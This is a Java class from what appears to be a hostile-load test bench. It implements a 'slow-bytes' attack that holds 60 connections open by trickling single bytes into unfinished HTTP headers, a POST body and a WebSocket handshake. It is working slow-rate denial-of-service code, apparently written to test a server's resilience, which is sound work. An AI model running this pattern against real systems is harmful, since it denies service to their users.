package io.busline.bench.hostile.hold;

import io.busline.bench.hostile.attack.Attack;
import io.busline.bench.hostile.attack.Target;
import io.busline.bench.hostile.attack.Time;
import io.busline.bench.hostile.net.Drain;
import io.busline.bench.hostile.net.Http;
import io.busline.bench.hostile.net.Wire;
import java.io.IOException;
import java.time.Duration;

/** Sends one byte each two seconds: a third of its connections within headers, in a body, and in a handshake. */
public final class SlowBytes implements Attack {
    private static final int CONNECTIONS = 60;
    private static final long EVERY_MS = 2_000;
    private static final byte[] BYTE = {'x'};

    @Override
    public String name() {
        return "slow-bytes";
    }

    @Override
    public void run(Target target, Duration length, long seed) throws IOException, InterruptedException {
        Time time = new Time(length);
        Wire[] wires = new Wire[CONNECTIONS];
        try (Drain drain = new Drain(target.answers())) {
            while (!time.isOver()) {
                for (int i = 0; i < CONNECTIONS; i++) {
                    try {
                        if (wires[i] == null || !wires[i].isOpen()) {
                            wires[i] = target.connect(i);
                            wires[i].send(beginning(i));
                            drain.add(wires[i].unblock());
                        }
                        wires[i].offer(BYTE);
                    } catch (IOException e) {
                        target.answers().count("refused or cut off");
                        if (wires[i] != null) {
                            wires[i].close();
                        }
                    }
                }
                time.pause(EVERY_MS);
            }
        }
        int open = 0;
        for (Wire wire : wires) {
            if (wire != null && wire.isOpen()) {
                open++;
                wire.close();
            }
        }
        target.answers().count("still open at the end: " + open);
    }

    /** What comes before the slow bytes: of headers, a body, or a handshake. */
    public static String beginning(int index) {
        return switch (index % 3) {
            case 0 -> Http.head("GET", "/") + "X-Slow: ";
            case 1 ->
                Http.head("POST", "/sockjs/000/" + "0123456789abcdef".repeat(2) + "/xhr_send")
                        + "Content-Length: 1000\r\n\r\n";
            default -> Http.head("GET", "/ws") + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: ";
        };
    }
}
